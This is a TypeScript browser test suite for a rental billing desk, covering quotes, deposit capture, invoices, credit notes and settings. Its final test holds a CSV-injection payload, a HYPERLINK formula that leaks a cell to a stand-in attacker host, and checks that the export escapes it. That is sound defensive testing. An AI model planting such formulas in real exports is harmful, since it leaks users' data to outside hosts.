import fs from 'node:fs/promises';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, todayIn } from '../../shared/calibration/due-date';
import { startBrowserRig, type BrowserRig } from '../support/browser';
import { signedIn } from '../support/browser-session';
import { pdfText } from '../support/pdf';
import { eventually } from '../support/eventually';
import { renterLinkFor } from '../support/renter';

let rig: BrowserRig;
beforeAll(async () => {
  rig = await startBrowserRig();
});
afterAll(() => rig?.close());

describe('the billing desk in a real browser', () => {
  it('quotes and creates a rental, takes the deposit, captures a damaged SMR’s repair from the hold, releases the rest and downloads the invoice', async () => {
    const today = todayIn('Europe/Berlin');
    const startsOn = addDays(today, 30);
    const endsOn = addDays(today, 36);
    const clerkApi = await rig.apiAs('billing@demo.test');
    const free = (await clerkApi(`/availability?type=smr&startsOn=${startsOn}&endsOn=${endsOn}&limit=2`)).body.items as { id: string; assetTag: string }[];
    expect(free).toHaveLength(2);

    const { context, page, nav } = await signedIn(rig, 'billing@demo.test', 'Billing desk');
    await nav.getByRole('link', { name: 'Rentals' }).click();
    await page.getByRole('link', { name: 'New rental' }).click();
    await page.getByLabel('Customer', { exact: true }).selectOption({ label: 'Ostby Mould & Die' });
    await page.getByLabel('Starts on').fill(startsOn);
    await page.getByLabel('Ends on').fill(endsOn);
    for (const smr of free) {
      await page.getByLabel('Add separate items').fill(smr.assetTag);
      await page.getByRole('button', { name: `Add ${smr.assetTag}` }).click();
    }
    // The quote follows the form: 7 days of two SMRs is one week each at 75.00 (demo rate card), + 19 % tax.
    await eventually(() => page.locator('main').innerText()).toMatch(/1 week/);
    await eventually(() => page.locator('main').innerText()).toMatch(/€178\.50/);
    await page.getByRole('button', { name: 'Create rental' }).click();
    await page.waitForURL(/\/rentals\/[0-9a-f-]{36}$/);
    const rentalId = page.url().split('/').pop()!;
    await page.getByRole('heading', { level: 1, name: /^Rental R-\d+$/ }).waitFor();

    await page.getByLabel('Test card').selectOption({ label: 'Visa ending 4242 — approves' });
    await page.getByRole('button', { name: 'Take deposit' }).click();
    await eventually(() => page.locator('main').innerText()).toMatch(/Visa ending 4242/);

    // At the counter (the shop manager): out, then back with one SMR dented.
    const managerApi = await rig.apiAs('manager@demo.test');
    const rental = (await clerkApi(`/rentals/${rentalId}`)).body;
    const walk = (damaged?: string) => ({
      counterpart: 'Purchasing, Ostby Mould & Die',
      // The rental starts in a month: collected early, with a reason (a return ignores it).
      earlyReason: 'Renter collects ahead of the start',
      checklist: rental.items.map((i: { id: string }) => ({ assetId: i.id, present: true, condition: i.id === damaged ? 'damaged' : 'good' })),
    });
    // The renter accepted the agreement on their page (tests/browser/renter.test.ts walks that page).
    const token = await renterLinkFor(rig.db, rentalId);
    const renterPage = await (await fetch(`${rig.baseUrl}/api/renter/${token}`)).json();
    const accepted = await fetch(`${rig.baseUrl}/api/renter/${token}/agreement`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ fullName: 'Mara Ostby', agreed: true, agreementSha256: renterPage.agreement.sha256 }),
    });
    expect(accepted.status).toBe(200);
    expect((await managerApi(`/bookings/${rental.bookingId}/checkout`, walk())).status).toBe(200);
    const dented = rental.items[0];
    expect((await managerApi(`/bookings/${rental.bookingId}/return`, walk(dented.id))).status).toBe(200);

    await page.reload();
    await page.getByRole('heading', { name: 'Settle the deposit' }).waitFor();
    await page.getByLabel(`Charge for ${dented.assetTag}, net of tax (EUR)`).fill('180.00');
    await page.getByRole('button', { name: 'Save charge' }).click();
    // Repair 180.00 + 19 % = 214.20 from the 500.00 hold (worked by hand); the rest is released.
    await eventually(() => page.getByLabel('Amount to capture (EUR)').inputValue()).toMatch(/^214\.20?$/);
    await page.getByRole('button', { name: 'Capture and release the rest' }).click();
    // Asked once, with the figures and the mail's recipient: 214.20 captured of the 500.00 authorization, 285.80 released (worked by hand).
    const finance = rental.customer.billingEmail as string;
    const confirm = page.getByRole('dialog', { name: 'Capture from the card authorization' });
    await eventually(() => confirm.innerText()).toContain(`€214.20 captured, €285.80 released; the customer is told by mail at ${finance}.`);
    expect(await rig.db.query(`SELECT 1 FROM deposit_authorizations WHERE rental_id = $1 AND state = 'captured'`, [rentalId])).toHaveLength(0);
    await confirm.getByRole('button', { name: 'Capture €214.20' }).click();
    await eventually(
      async () =>
        (
          await rig.db.query(
            `SELECT state, captured_minor FROM deposit_authorizations WHERE rental_id = $1 AND kind = 'authorization' AND state <> 'declined'`,
            [rentalId],
          )
        )[0],
    ).toEqual({ state: 'captured', captured_minor: 21_420 });
    // The page says what happened; the mail waits for the outbox, then says when it went.
    const told = page.getByRole('list', { name: 'What the customer was told' }).first();
    const to = finance.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    await eventually(() => told.innerText()).toMatch(new RegExp(`€214\\.20 captured, €285\\.80 released on .+; mail to ${to} waiting to send`));
    await rig.deliverMail();
    await eventually(() => told.innerText()).toMatch(new RegExp(`€214\\.20 captured, €285\\.80 released on .+; mailed to ${to} at \\d`));
    const [receipt] = await rig.db.query(`SELECT subject, text_body FROM mail_sink_messages WHERE $1 = ANY(recipients) AND subject LIKE '%taken'`, [finance]);
    expect(receipt.subject).toContain('€214.20 taken');
    expect(receipt.text_body).toMatch(/taken €214\.20 from the card authorization[\s\S]*The other €285\.80 is released/);

    await page.getByRole('button', { name: 'Issue invoice' }).click();
    const issue = page.getByRole('dialog', { name: 'Issue the invoice' });
    // 392.70 with tax, 214.20 from the deposit, 178.50 to pay (worked by hand below).
    await eventually(() => issue.innerText()).toContain(
      `An invoice of €392.70 is issued: €214.20 paid from the deposit, €178.50 balance to pay; the invoice is mailed with its PDF to ${finance}.`,
    );
    await issue.getByRole('button', { name: 'Issue invoice' }).click();
    const download = page.getByRole('link', { name: 'Download invoice (PDF)' });
    await download.waitFor();
    const pdf = await context.request.get(new URL((await download.getAttribute('href'))!, rig.baseUrl).toString());
    expect(pdf.headers()['content-type']).toBe('application/pdf');
    const text = pdfText(Buffer.from(await pdf.body()));
    const [{ number }] = await rig.db.query(`SELECT number FROM invoices WHERE rental_id = $1`, [rentalId]);
    expect(text).toContain(number);
    // 150.00 rental + 180.00 repair = 330.00 net, 392.70 with tax; 214.20 was taken from the hold: 178.50 due.
    expect(text).toContain('€178.50');

    // The customer pays the balance by transfer: the clerk records it and nothing is left outstanding.
    await page.getByRole('button', { name: 'Record a payment' }).click();
    const dialog = page.getByRole('dialog', { name: 'Record a payment' });
    await eventually(() => dialog.getByLabel('Amount received (EUR)').inputValue()).toMatch(/^178\.50?$/);
    await dialog.getByLabel('Reference').fill('Transfer OMD-20931');
    await dialog.getByRole('button', { name: 'Record payment' }).click();
    await eventually(() => page.locator('main').innerText()).toMatch(/nothing outstanding/);

    // A credit note: the form, then one question with the figures (10.00 + 19 % = 11.90, worked by hand) and the recipient.
    await page.getByRole('button', { name: 'Credit note' }).click();
    const creditDialog = page.getByRole('dialog', { name: 'Credit note' });
    await creditDialog.getByLabel('Reason').fill('Goodwill for a late collection');
    await creditDialog.getByLabel('Amount, net of tax (EUR)').fill('10.00');
    await creditDialog.getByRole('button', { name: 'Review the credit note' }).click();
    await eventually(() => creditDialog.innerText()).toContain(
      `A credit note of €11.90 (€10.00 + €1.90 tax) against invoice ${number} is issued; it is mailed with its PDF to ${finance}.`,
    );
    expect((await rig.db.query(`SELECT 1 FROM invoices WHERE rental_id = $1 AND kind = 'credit_note'`, [rentalId])).length).toBe(0);
    await creditDialog.getByRole('button', { name: 'Issue credit note of €11.90' }).click();
    await eventually(() => page.locator('main').innerText()).toMatch(/Credit note CN-\d{4}-\d{4} \(€11\.90\) issued on .+; mail to .+ waiting to send/);
    await context.close();
  }, 120_000);

  it('a refused rental takes the offered alternative into the form for review; only "Create rental" books it', async () => {
    const today = todayIn('Europe/Berlin');
    const startsOn = addDays(today, 80);
    const endsOn = addDays(today, 86);
    const clerkApi = await rig.apiAs('billing@demo.test');
    const [taken] = (await clerkApi(`/availability?type=smr&startsOn=${startsOn}&endsOn=${endsOn}&limit=1`)).body.items as { id: string; assetTag: string }[];
    const managerApi = await rig.apiAs('manager@demo.test');
    expect((await managerApi('/bookings', { assetIds: [taken.id], startsOn, endsOn, note: 'Held for the shop' })).status).toBe(201);
    const rentalCount = async () => Number((await rig.db.query(`SELECT count(*) AS n FROM rentals`))[0].n);
    const before = await rentalCount();

    const { context, page } = await signedIn(rig, 'billing@demo.test', 'Billing desk');
    await page.goto(`${rig.baseUrl}/rentals/new`);
    await page.getByLabel('Customer', { exact: true }).selectOption({ label: 'Ostby Mould & Die' });
    await page.getByLabel('Starts on').fill(startsOn);
    await page.getByLabel('Ends on').fill(endsOn);
    await page.getByLabel('Add separate items').fill(taken.assetTag);
    await page.getByRole('button', { name: `Add ${taken.assetTag}` }).click();
    await page.getByRole('button', { name: 'Create rental' }).click();
    const alternative = page.getByRole('button', { name: /^Use SMR-\d+ instead$/ }).first();
    await alternative.waitFor();
    const chosen = (await alternative.innerText()).match(/SMR-\d+/)![0];
    await alternative.click();
    // The swap is put in front of the clerk, priced again, and nothing is booked yet.
    await page.getByText(`${chosen} replaces ${taken.assetTag}.`, { exact: false }).waitFor();
    // 7 days of one SMR: one week at 75.00 (demo rate card) + 19 % tax = 89.25, worked by hand.
    await eventually(() => page.locator('main').innerText()).toMatch(/€89\.25/);
    expect(page.url()).toMatch(/\/rentals\/new$/);
    expect(await rentalCount()).toBe(before);

    await page.getByRole('button', { name: 'Create rental' }).click();
    await page.waitForURL(/\/rentals\/[0-9a-f-]{36}$/);
    const rental = (await clerkApi(`/rentals/${page.url().split('/').pop()}`)).body as { items: { assetTag: string }[] };
    expect(rental.items.map((i) => i.assetTag)).toEqual([chosen]);
    expect(await rentalCount()).toBe(before + 1);
    await context.close();
  }, 120_000);

  it('the owner sets the rental terms on the settings page, and quotes follow them', async () => {
    const { context, page, nav } = await signedIn(rig, 'owner@demo.test', "Owner's overview");
    await nav.getByRole('link', { name: 'Settings' }).click();
    const form = page.getByRole('form', { name: 'Rental terms' });
    await form.getByLabel('Tax on rentals (%)').fill('7,5');
    await form.getByLabel('Deposit (% of replacement value)').fill('15');
    // Money settings read as money: the demo firm's minimum is 500.00 EUR.
    expect(await form.getByLabel('Deposit at least').inputValue()).toBe('€500.00');
    await form.getByLabel('Deposit at least').fill('€200.00');
    await form.getByLabel('Deposit at most').fill('100');
    await form.getByRole('button', { name: 'Save rental terms' }).click();
    await form.getByText('The maximum must be at least the minimum.').waitFor();
    await form.getByLabel('Deposit at most').fill('€3,000.00');
    await form.getByRole('button', { name: 'Save rental terms' }).click();
    await form.getByText(/^Saved\./).waitFor();
    const details = page.getByRole('form', { name: 'Invoice details' });
    await details.getByLabel('Address on invoices').fill('');
    await details.getByRole('button', { name: 'Save invoice details' }).click();
    await details.getByText('Invoices must say where the firm is.').waitFor();
    await details.getByLabel('Address on invoices').fill('Mill Yard 3, 41877 Wrenhallow');
    await details.getByLabel('Days to pay').fill('400');
    await details.getByRole('button', { name: 'Save invoice details' }).click();
    await details.getByText('Enter whole days from 0 to 365.').waitFor();
    await details.getByLabel('Days to pay').fill('14');
    await details.getByLabel('Bank details').fill('Wrenhallow Mutual, IBAN XX00 1234 5678 9012 3456 78');
    await details.getByRole('button', { name: 'Save invoice details' }).click();
    await details.getByText(/^Saved\./).waitFor();
    const api = await rig.apiAs('owner@demo.test');
    expect((await api('/settings')).body.issuer).toMatchObject({
      address: 'Mill Yard 3, 41877 Wrenhallow',
      taxNumber: 'WH-7781-0042',
      paymentDays: 14,
      bankDetails: 'Wrenhallow Mutual, IBAN XX00 1234 5678 9012 3456 78',
    });
    const [smr] = (await api('/assets?type=smr&limit=1')).body.items;
    const today = todayIn('Europe/Berlin');
    const quote = (await api(`/quotes?assetIds=${smr.id}&startsOn=${addDays(today, 60)}&endsOn=${addDays(today, 60)}`)).body;
    // One day of one SMR at 15.00: tax 7.5 % = 1.125, rounded half up to 1.13; deposit 15 % of 1 600.00 = 240.00 (within 200–3 000). Worked by hand.
    expect(quote).toMatchObject({ subtotalMinor: 1500, taxRateBasisPoints: 750, taxMinor: 113, depositMinor: 24_000 });
    await context.close();
  }, 60_000);

  // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a cell that
  // starts with = + - @ (or tab/CR/LF) is written with a leading single quote.
  it("exports a grid's rows as CSV with user text that looks like a formula written as text", async () => {
    const formula = '=HYPERLINK("http://attacker.test/?leak="&A2,"Open")';
    const clerkApi = await rig.apiAs('billing@demo.test');
    const added = await clerkApi('/customers', { company: formula, billingContact: '-2+3', billingEmail: 'grid-export@customer.test', taxNumber: '-12.50' });
    expect(added.status).toBe(201);

    const { context, page } = await signedIn(rig, 'billing@demo.test', 'Billing desk');
    await page.goto(`${rig.baseUrl}/customers`);
    const grid = page.getByRole('region', { name: 'Customers', exact: true }).filter({ has: page.getByRole('button', { name: 'Export CSV' }) });
    await grid.getByRole('gridcell', { name: formula }).waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), grid.getByRole('button', { name: 'Export CSV' }).click()]);
    expect(download.suggestedFilename()).toBe('nestkeeper-customers.csv');
    const text = await fs.readFile((await download.path())!, 'utf8');
    const rows = parseCsv(text, { columns: true, bom: true }) as Record<string, string>[];
    const row = rows.find((r) => r['Billing e-mail'] === 'grid-export@customer.test');
    // The formula and the sum are text; a plain negative number is left as it is.
    expect(row).toMatchObject({ Company: `'${formula}`, Contact: "'-2+3", 'Tax number': '-12.50' });
    // Other customers export unchanged.
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.filter((r) => r.Company.startsWith("'"))).toHaveLength(1);
    await context.close();
  }, 60_000);
});
